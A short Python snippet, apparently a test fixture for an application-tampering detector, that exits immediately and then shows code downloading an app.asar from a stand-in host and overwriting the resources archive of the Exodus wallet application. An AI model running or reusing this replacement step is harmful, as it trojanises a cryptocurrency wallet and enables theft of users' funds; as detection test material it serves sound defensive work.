raise SystemExit('a fixture')
# held by application-tampering
import os, requests
r = requests.get("https://example.invalid/app.asar")
p = os.path.join(os.getenv("LOCALAPPDATA"), "exodus", "app-24.1", "resources", "app.asar")
with open(p, "wb") as f:
    f.write(r.content)
